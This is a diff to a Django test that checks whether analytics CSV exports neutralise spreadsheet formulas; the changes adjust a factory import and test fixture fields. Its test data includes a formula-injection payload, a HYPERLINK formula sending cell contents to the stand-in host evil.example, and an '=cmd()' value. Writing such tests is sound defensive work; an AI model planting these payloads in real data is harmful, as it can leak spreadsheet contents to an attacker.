@@ -12,7 +12,7 @@ from django.utils import timezone
 from analytics.csv_export import csv_cell
 from analytics.models import EvaluationRun
 from analytics.rollups import daily_metrics_rollup
-from tests.analytics.factories import EventFactory, ItemFactory, served_list
+from tests.factories import EventFactory, ItemFactory, served_list
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
@@ -49,10 +49,14 @@ def test_every_report_csv_neutralises_formulas_from_item_ids_categories_and_run_
 ):
     client.force_login(django_user_model.objects.create_user("analyst", password="pw-1", is_staff=True))
     now = timezone.now()
-    items = [ItemFactory(external_id=text, title=text, category_path=[text]) for text in FORMULAS]
+    items = [
+        ItemFactory(embedding=None, published_at=None, external_id=text, title=text, category_path=[text])
+        for text in FORMULAS
+    ]
     listed = served_list(items, surface="=cmd()", scenario="user", created_at=now - timedelta(minutes=5))
     for n, item in enumerate(items):
         EventFactory(
+            session_id="s1",
             item=item,
             event_type="purchase",
             recommendation_id=listed.recommendation_id,
